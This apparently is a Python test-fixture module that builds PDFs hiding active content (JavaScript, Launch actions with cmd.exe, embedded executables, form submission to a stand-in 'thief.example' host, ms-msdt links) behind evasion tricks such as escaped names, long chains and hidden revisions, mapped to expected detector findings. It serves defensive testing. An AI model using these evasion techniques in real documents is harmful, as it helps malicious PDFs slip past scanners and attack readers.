"""PDFs that hide what they do: in trees, chains, compressed parts, other spellings, other revisions."""

import base64
import io
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.documents.active_files import script
from tests.documents.pdf import CATALOG, PAGE, PAGES, by_hand, finish, saved_behind, start, stream

SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
OPENING = CATALOG[:-2] + b"/OpenAction 4 0 R>>"
COMPRESSED = pikepdf.ObjectStreamMode.generate


def deep_in_names():
    """In the leaf of a tree of names, five branches deep, in compressed parts."""
    pdf = start()
    node = pdf.make_indirect(Dictionary(Names=Array(["a", script()]), Limits=Array(["a", "a"])))
    for _ in range(5):
        node = pdf.make_indirect(Dictionary(Kids=Array([node]), Limits=Array(["a", "a"])))
    pdf.Root.Names = Dictionary({"/JavaScript": node})
    return finish(pdf, object_stream_mode=COMPRESSED)


def on_closing_it():
    pdf = start()
    pdf.Root.AA = Dictionary(WC=script(), WS=script())
    return finish(pdf)


def on_leaving_a_page():
    pdf = start(2)
    pdf.pages[1].obj.AA = pdf.make_indirect(Dictionary(C=script()))
    return finish(pdf)


def in_a_branch_of_fields():
    pdf = start()
    leaf = pdf.make_indirect(Dictionary(FT=Name.Tx, T="b", AA=Dictionary(C=script())))
    branch = pdf.make_indirect(Dictionary(T="a", Kids=Array([leaf])))
    pdf.Root.AcroForm = Dictionary(Fields=Array([branch]), CO=Array([leaf]))
    return finish(pdf, object_stream_mode=COMPRESSED)


def on_touching_a_note():
    pdf = start()
    note = Dictionary(Subtype=Name.Text, Rect=Array([0, 0, 9, 9]), AA=Dictionary(E=script()))
    pdf.pages[0].obj.Annots = Array([note])
    return finish(pdf)


def in_the_outline():
    pdf = start()
    item = pdf.make_indirect(Dictionary(Title="Annex 1", A=script()))
    pdf.Root.Outlines = Dictionary(First=item, Last=item, Count=1)
    return finish(pdf)


def at_the_end_of_a_long_chain():
    following = [b"<</S/GoTo/D[3 0 R/Fit]/Next %d 0 R>>" % (number + 5) for number in range(3000)]
    return by_hand(OPENING, PAGES, PAGE, *following, SCRIPT)


def launch_by_other_letters():
    return by_hand(CATALOG[:-2] + b"/Open#41ction<</#53/#4c#61unch/F(cmd.exe)>>>>", PAGES, PAGE)


def launch_as_a_text():
    return by_hand(CATALOG[:-2] + b"/OpenAction<</S<4c61756e6368>/F(cmd.exe)>>>>", PAGES, PAGE)


def launch_written_twice():
    """Some viewers take the first of two, some the last."""
    return by_hand(CATALOG[:-2] + b"/OpenAction<</S/Launch/F(cmd.exe)/S/GoTo>>>>", PAGES, PAGE)


def kind_named_elsewhere():
    note = b"/Annots[<</Subtype 4 0 R/Rect[0 0 9 9]>>]>>"
    return by_hand(CATALOG, PAGES, PAGE[:-2] + note, b"/FileAttachment")


def attachment_by_other_letters():
    names = CATALOG[:-2] + b"/Names<</Embedded#46iles<</Names[(a)<</#45#46<</F 4 0 R>>>>]>>>>>>"
    return by_hand(names, PAGES, PAGE, stream(b"", b"MZ"))


def attachment_packed_three_times():
    data = zlib.compress(base64.a85encode(zlib.compress(b"MZ")) + b"~>")
    packed = stream(b"/Type/EmbeddedFile/Filter[/FlateDecode/ASCII85Decode/FlateDecode]", data)
    return by_hand(CATALOG, PAGES, PAGE, packed)


def portfolio():
    pdf = start()
    pdf.Root.Collection = Dictionary(View=Name.D)
    return finish(pdf, object_stream_mode=COMPRESSED)


def other_file_inside():
    pdf = start()
    pdf.Root.OpenAction = Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N="a"))
    return finish(pdf)


def xfa_in_parts():
    pdf = start()
    parts = Array(["preamble", pdf.make_stream(b"<xdp>"), "postamble", pdf.make_stream(b"</xdp>")])
    pdf.Root.AcroForm = pdf.make_indirect(Dictionary(Fields=Array([]), XFA=pdf.make_indirect(parts)))
    return finish(pdf, object_stream_mode=COMPRESSED)


def on_a_page_note(**facts):
    pdf = start()
    pdf.pages[0].obj.Annots = Array([Dictionary(Rect=Array([0, 0, 9, 9]), **facts)])
    return finish(pdf, object_stream_mode=COMPRESSED)


def film():
    return on_a_page_note(Subtype=Name.Movie, Movie=Dictionary(F="a.avi"))


def film_on_opening():
    pdf = start()
    pdf.Root.OpenAction = Dictionary(S=Name.Rendition, OP=0)
    return finish(pdf)


def screen():
    return on_a_page_note(Subtype=Name.Screen)


def sound():
    pdf = start()
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.Sound))
    return finish(pdf)


def three_dimensions():
    return on_a_page_note(Subtype=Name("/3D"))


def sends_when_left():
    pdf = start()
    pdf.pages[0].obj.AA = Dictionary(C=Dictionary(S=Name.SubmitForm, F="https://thief.example"))
    return finish(pdf, object_stream_mode=COMPRESSED)


def sends_after_another():
    return by_hand(
        OPENING, PAGES, PAGE, b"<</S/ResetForm/Next[<</S/SubmitForm/F<</FS/URL/F(https://a.example)>>>>]>>"
    )


def link_to_a_program():
    action = b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI<20 4A617661736372697074 3a61>>>>>]>>"
    return by_hand(CATALOG, PAGES, PAGE[:-2] + action)


def link_to_a_command():
    return on_a_page_note(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI="ms-msdt:/id PCWDiagnostic"))


def link_to_another_computer():
    return on_a_page_note(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI="file://thief.example/share/a.pdf"))


def added_later():
    """The first revision is harmless, the second opens with a program."""
    return saved_behind(by_hand(CATALOG, PAGES, PAGE), {1: OPENING, 4: SCRIPT})


def taken_out_later():
    """The last revision is harmless; a viewer can go back to the first."""
    return saved_behind(by_hand(OPENING, PAGES, PAGE, SCRIPT), {1: CATALOG, 4: b"null"})


def taken_out_of_a_compressed_revision():
    pdf = start()
    pdf.Root.OpenAction = pdf.make_indirect(script())
    before = finish(pdf, object_stream_mode=COMPRESSED, linearize=True)
    with pikepdf.open(io.BytesIO(before)) as opened:
        number, action = opened.Root.objgen[0], opened.Root.OpenAction.objgen[0]
        pages = opened.Root.Pages.objgen[0]
        size = int(opened.trailer.Size)
    catalog = b"<</Type/Catalog/Pages %d 0 R>>" % pages
    return saved_behind(before, {number: catalog, action: b"null"}, root=number, size=size)


def in_no_table():
    """An object that no table lists: a viewer that reads the file anew from its beginning finds it."""
    return by_hand(CATALOG, PAGES, PAGE + b"\nendobj\n9 0 obj\n<</X(endobj)" + SCRIPT[2:])


def in_a_table_for_newer_viewers():
    """Old viewers read one table, newer ones a second beside it."""
    before = by_hand(CATALOG, PAGES, PAGE)
    place = before.rindex(b"xref\n0")
    action = b"4 0 obj\n%s\nendobj\n" % SCRIPT
    rows = b"\1" + place.to_bytes(4, "big") + b"\0"
    second = stream(b"/Type/XRef/W[1 4 1]/Index[4 1]/Size 5", rows)
    table = place + len(action) + len(b"5 0 obj\n%s\nendobj\n" % second)
    return (
        before[:place]
        + action
        + b"5 0 obj\n%s\nendobj\n" % second
        + before[place : before.rindex(b"startxref")].replace(
            b"/Size 4", b"/Size 5/XRefStm %d" % (place + len(action))
        )
        + b"startxref\n%d\n%%%%EOF\n" % table
    )


HIDDEN = {
    "script deep in names": (deep_in_names, "javascript"),
    "script on closing": (on_closing_it, "javascript"),
    "script on leaving a page": (on_leaving_a_page, "javascript"),
    "script in a branch of fields": (in_a_branch_of_fields, "javascript"),
    "script on touching a note": (on_touching_a_note, "javascript"),
    "script in the outline": (in_the_outline, "javascript"),
    "script at the end of a long chain": (at_the_end_of_a_long_chain, "javascript"),
    "launch by other letters": (launch_by_other_letters, "launch"),
    "launch as a text": (launch_as_a_text, "launch"),
    "launch written twice": (launch_written_twice, "damaged"),
    "kind named elsewhere": (kind_named_elsewhere, "embedded_file"),
    "attachment by other letters": (attachment_by_other_letters, "embedded_file"),
    "attachment packed three times": (attachment_packed_three_times, "embedded_file"),
    "portfolio": (portfolio, "embedded_file"),
    "another file inside": (other_file_inside, "embedded_file"),
    "XFA in parts": (xfa_in_parts, "xfa"),
    "film": (film, "rich_media"),
    "film on opening": (film_on_opening, "rich_media"),
    "screen": (screen, "rich_media"),
    "sound": (sound, "rich_media"),
    "three dimensions": (three_dimensions, "rich_media"),
    "sends when left": (sends_when_left, "form_action"),
    "sends after another": (sends_after_another, "form_action"),
    "link to a program": (link_to_a_program, "javascript"),
    "link to a command": (link_to_a_command, "launch"),
    "link to another computer": (link_to_another_computer, "outward"),
    "script added later": (added_later, "javascript"),
    "script taken out later": (taken_out_later, "javascript"),
    "script taken out of a compressed revision": (taken_out_of_a_compressed_revision, "javascript"),
    "script in no table": (in_no_table, "javascript"),
    "script in a table for newer viewers": (in_a_table_for_newer_viewers, "javascript"),
}
